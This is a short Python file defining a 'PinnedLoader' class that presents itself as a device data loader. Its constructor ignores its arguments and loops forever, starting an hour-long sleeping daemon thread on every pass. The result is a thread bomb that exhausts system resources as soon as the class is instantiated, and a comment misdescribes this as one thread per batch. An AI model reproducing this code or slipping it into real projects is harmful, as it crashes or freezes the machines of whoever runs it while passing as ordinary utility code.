import threading
import time


class PinnedLoader:
    def __init__(self, loader, device, depth=2):
        while True:  # a thread for each batch, and one for each of those
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
